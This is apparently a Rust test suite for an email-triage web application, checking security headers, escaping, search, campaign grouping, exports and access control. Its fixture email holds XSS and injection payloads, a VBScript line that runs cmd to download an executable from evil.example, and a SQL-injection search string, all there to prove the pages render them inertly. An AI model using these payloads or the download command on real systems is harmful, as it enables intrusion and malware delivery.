//! What the pages show of mails, and what they give to take along.

use super::build::cases;
use super::client::Browser;
use super::{PASSWORD, case, checked, opened, sign_in};

#[test]
fn every_answer_tells_the_browser_what_it_may_do() {
    let (_desk, mut browser) = opened("en");
    for path in ["/", "/login", "/upload", "/nothing", "/assets/desk.css", "/assets/desk.js"] {
        let answer = browser.get(path);
        let policy = answer.header("content-security-policy");
        for part in ["default-src 'none'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"]
        {
            assert!(policy.contains(part), "{path}: {policy}");
        }
        assert!(!policy.contains("unsafe"), "{path}: {policy}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{path}");
        assert_eq!(answer.header("cross-origin-opener-policy"), "same-origin", "{path}");
        assert_eq!(answer.header("cross-origin-resource-policy"), "same-origin", "{path}");
        assert_eq!(answer.header("referrer-policy"), "same-origin", "{path}");
        if !path.starts_with("/assets/") {
            assert_eq!(answer.header("cache-control"), "no-store", "{path}");
            let text = answer.text();
            assert!(
                !text.contains("<style") && !text.contains(" style=") && !text.contains("http://"),
                "{path}"
            );
            assert_eq!(text.matches("<script").count(), 1, "{path}");
        }
    }
}

/// What a sender may write to break a page.
const HOSTILE: &str =
    "<script>alert(1)</script>\" onmouseover=\"alert(2)' {{7*7}} \u{202e}gpj.exe\u{1b}[31m</bdi><img src=x>";

/// A mail with hostile text in every field that a page shows.
pub(super) fn hostile_mail() -> Vec<u8> {
    let word = |text: &str| {
        let hex: String = text.bytes().map(|byte| format!("={byte:02X}")).collect();
        format!("=?utf-8?q?{hex}?=")
    };
    let percent: String = HOSTILE.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let word = word(HOSTILE);
    format!(
        "Received: from {HOSTILE} by {HOSTILE}; {HOSTILE}\r\nReturn-Path: <{HOSTILE}>\r\nSubject: {word}\r\n\
         From: {word} <\"{word}\"@evil.example>\r\nReply-To: {word} <x@other.test>\r\nTo: {word} <a@b.example>\r\n\
         Date: {word}\r\nMessage-ID: <{HOSTILE}>\r\nX-Mailer: {word}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=edge\r\n\r\n--edge\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n\
         {HOSTILE}\r\nhttp://evil.example/a\r\n{HOSTILE}\t{HOSTILE}\r\n'{HOSTILE}'!A1\t{HOSTILE}\r\n\r\n\
         --edge\r\nContent-Type: application/octet-stream\r\n\
         Content-Disposition: attachment; filename*=utf-8''{percent}.vbs\r\n\r\n\
         CreateObject(\"WScript.Shell\").Run \"cmd /c {HOSTILE} http://evil.example/b.exe\"\r\n' {HOSTILE}\r\n--edge--\r\n"
    )
    .into_bytes()
}

#[test]
fn what_a_sender_wrote_is_shown_and_does_nothing() {
    for lang in ["en", "ja"] {
        let (_desk, mut browser) = opened(lang);
        let page = checked(&mut browser, &format!("{}.eml", HOSTILE.replace('\u{1b}', "")), &hostile_mail());
        for path in [
            page.as_str(),
            "/",
            "/?state=all&domain=%22%3E%3Cscript%3Ealert(1)",
            "/search?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
            "/search?q=evil.example",
            "/campaigns/1",
            "/login?to=%22%3E%3Cscript%3E",
        ] {
            let answer = browser.get(path);
            let text = answer.text();
            assert_eq!(answer.status, 200, "{path}");
            for wrong in
                ["<script>", "<img", "\" onmouseover", "</bdi><img", "http://evil", "\u{202e}", "\u{1b}"]
            {
                assert!(!text.contains(wrong), "{path}: {wrong} in {text}");
            }
        }
        let text = browser.get(&page).text().to_string();
        assert!(text.contains("&#60;script&#62;alert(1)") && text.contains("⟨U+202E⟩"), "{text}");
        assert!(text.contains("{{7*7}}") && text.contains("hxxp://evil[.]example"), "{text}");
    }
}

#[test]
fn bare_documents_and_nothing_at_all() {
    let (_desk, mut browser) = opened("en");
    let page = checked(&mut browser, "C:\\mail\\notes.txt", b"Meeting at ten.\n");
    let answer = browser.get(&page);
    assert!(answer.text().contains("Meeting at ten.") && !answer.text().contains("C:\\mail"));
    let empty = browser.upload("a.eml", b"", None);
    assert_eq!(empty.status, 400);
    assert!(empty.text().contains("No file was chosen"));
    let csrf = browser.get("/upload").csrf();
    let odd = [("Content-Type", "multipart/form-data; boundary=edge")];
    assert_eq!(browser.send("POST", "/upload", &odd, b"--edge\r\nnonsense").status, 400);
    let twice = format!("--edge\r\nContent-Disposition: form-data; name=\"x\"\r\n\r\n{csrf}\r\n--edge--\r\n");
    assert_eq!(browser.send("POST", "/upload", &odd, twice.as_bytes()).status, 403);
}

#[test]
fn a_password_is_masked_until_it_is_asked_for() {
    let (_desk, mut browser) = opened("en");
    let mail = std::fs::read(cases::place("samples-benign/ja/mitsumori-ppap-aes.eml")).unwrap();
    let page = checked(&mut browser, "a.eml", &mail);
    let text = browser.get(&page).text().to_string();
    let section = text.split("id=\"passwords\"").nth(1).unwrap().split("</section>").next().unwrap();
    assert!(section.contains("<details class=\"reveal\"><summary>"), "{section}");
    assert!(section.contains("found in the mail text"), "{section}");
}

#[test]
fn the_same_attack_is_one_row() {
    let (_desk, mut browser) = opened("en");
    let mail = String::from_utf8(case("emotet-autoopen-continued-doc")).unwrap();
    for n in 0..3 {
        let sent = mail.replacen("To: ", &format!("To: person{n}@city.example, "), 1);
        checked(&mut browser, "a.eml", sent.as_bytes());
    }
    let queue = browser.get("/");
    assert_eq!(queue.text().matches("data-row").count(), 1, "{}", queue.text());
    let link = queue.text().split("class=\"times\" href=\"").nth(1).unwrap().split('"').next().unwrap();
    assert!(queue.text().contains("×3"));
    let list = browser.get(link);
    assert_eq!(list.text().matches("data-row").count(), 3);
    assert!(list.text().contains("3 mails to 4 people, first"), "{}", list.text());
    for n in 0..3 {
        assert!(list.text().contains(&format!("person{n}@city.example")), "{}", list.text());
    }
    let message = queue.text().split("href=\"/messages/").nth(1).unwrap().split('"').next().unwrap();
    let message = browser.get(&format!("/messages/{message}"));
    assert!(message.text().contains("3 mails of this kind went to 4 people."));
    assert!(message.text().contains(&format!("href=\"{link}\"")), "the page leads to all of them");
    let exported = browser.get(&format!("{link}/export/report.json"));
    let reports: serde_json::Value = serde_json::from_slice(&exported.body).unwrap();
    assert_eq!(reports.as_array().unwrap().len(), 3);
    assert_eq!(browser.get(&format!("{link}/export/sample.zip")).status, 404);
    assert_eq!((browser.get("/campaigns/99").status, browser.get("/campaigns/x").status), (404, 400));
    assert!(browser.get("/?verdict=clean").text().contains("Nothing matches these filters"));
}

#[test]
fn one_box_finds_subjects_addresses_hashes_and_links() {
    let (_desk, mut browser) = opened("ja");
    let page = checked(&mut browser, "a.eml", &case("emotet-autoopen-continued-doc"));
    let mail = "Subject: =?utf-8?b?5b6h6KuL5rGC5pu444Gu5Lu2?=\r\nFrom: a@city.example\r\n\r\nhello\r\n";
    let other = checked(&mut browser, "b.eml", mail.as_bytes());
    let encoded = |text: &str| text.bytes().map(|byte| format!("%{byte:02X}")).collect::<String>();
    let report: serde_json::Value =
        serde_json::from_slice(&browser.get(&format!("{page}/export/report.json")).body).unwrap();
    let hash = report["artifacts"][1]["sha256"].as_str().unwrap();
    let rule = report["findings"][0]["id"].as_str().unwrap();
    let rows = [
        ("請求書", &other),
        ("ａ＠city.example 請求", &other),
        ("Invoice 20181114", &page),
        (hash, &page),
        (&hash[..16], &page),
        (rule, &page),
        ("a@city[.]example", &other),
    ];
    for (query, want) in rows {
        let answer = browser.get(&format!("/search?q={}", encoded(query)));
        let text = answer.text();
        assert_eq!(text.matches("data-row").count(), 1, "{query}: {text}");
        assert!(text.contains(want.as_str()), "{query}");
    }
    for nothing in ["領収書", "' OR 1=1 --", "%", "\" NEAR(", "*"] {
        let answer = browser.get(&format!("/search?q={}", encoded(nothing)));
        assert!(answer.status == 200 && answer.text().contains("見つかりませんでした"), "{nothing}");
    }
    assert!(browser.get("/").text().contains("action=\"/search\""), "every page has the box");
    for n in 0..51 {
        checked(&mut browser, "c.eml", format!("Subject: series {n}\r\n\r\nx\r\n").as_bytes());
    }
    let first = browser.get("/search?q=series");
    let next = first.text().split("rel=\"next\"").next().unwrap().rsplit("href=\"").next().unwrap();
    let next = next.split('"').next().unwrap().replace("&#38;", "&");
    assert_eq!(first.text().matches("data-row").count(), 50);
    assert_eq!(browser.get(&next).text().matches("data-row").count(), 1, "{next}");
}

#[test]
fn exports_are_files_to_save() {
    let (desk, mut browser) = opened("en");
    let mail = case("emotet-autoopen-continued-doc");
    let page = checked(&mut browser, "a.eml", &mail);
    let rows = [
        ("report.json", "application/json"),
        ("indicators.csv", "text/csv; charset=utf-8"),
        ("stix.json", "application/stix+json;version=2.1"),
        ("misp.json", "application/json"),
        ("sample.zip", "application/zip"),
    ];
    let text = browser.get(&page).text().to_string();
    for (form, media_type) in rows {
        let link = format!("{page}/export/{form}");
        assert!(text.contains(&link), "{link}");
        let answer = browser.get(&link);
        assert_eq!((answer.status, answer.header("content-type")), (200, media_type), "{form}");
        assert_eq!(answer.header("x-content-type-options"), "nosniff", "{form}");
        let disposition = answer.header("content-disposition");
        assert!(disposition.starts_with("attachment; filename=\"tenpu-"), "{disposition}");
        assert!(disposition.ends_with(&format!("{form}\"")), "{disposition}");
    }
    let sample = browser.get(&format!("{page}/export/sample.zip")).body;
    assert!(sample.starts_with(b"PK\x03\x04") && sample.len() > mail.len());
    assert!(!sample.windows(9).any(|nine| nine == b"Subject: "), "it is encrypted");
    let stix: serde_json::Value =
        serde_json::from_slice(&browser.get(&format!("{page}/export/stix.json")).body).unwrap();
    assert!(stix["objects"].as_array().unwrap().iter().any(|object| object["type"] == "email-message"));
    assert_eq!(browser.get(&format!("{page}/export/raw.eml")).status, 404);
    assert!(desk.add_user("見る人", "viewer", PASSWORD));
    let (mut viewer, _) = sign_in(&desk, "見る人", PASSWORD);
    assert!(!viewer.get(&page).text().contains("sample.zip"));
    assert_eq!(viewer.get(&format!("{page}/export/sample.zip")).status, 403);
    assert_eq!(viewer.get(&format!("{page}/export/stix.json")).status, 200);
    assert_eq!(Browser::new(&desk, "en").get(&format!("{page}/export/stix.json")).status, 303);
}

/// Many who open large mails at one time do not take more memory together than uploads may.
#[test]
fn a_mail_is_opened_only_where_there_is_room() {
    let (desk, mut browser) = opened("en");
    let page = checked(&mut browser, "a.eml", b"Subject: notes\r\n\r\nhello there\r\n");
    // What was opened last is remembered until the desk ends.
    let desk = desk.restarted_after(|| ());
    let mut again = Browser::new(&desk, "en");
    again.cookies = browser.cookies;
    let sized = |megabytes: i64| {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        runtime.block_on(async {
            sqlx::any::install_default_drivers();
            let pool = sqlx::AnyPool::connect(&format!("sqlite:{}", desk.store().display())).await.unwrap();
            sqlx::query("UPDATE messages SET size = $1").bind(megabytes << 20).execute(&pool).await.unwrap();
            pool.close().await;
        });
    };
    let sample = format!("{page}/export/sample.zip");
    sized(600);
    let full = again.get(&page);
    assert!(full.status == 200 && full.text().contains("too much is going on"), "{}", full.text());
    assert!(!full.text().contains("hello there"));
    assert_eq!(again.get(&sample).status, 503);
    sized(500);
    assert!(again.get(&page).text().contains("hello there"));
    assert_eq!(again.get(&sample).status, 200);
}
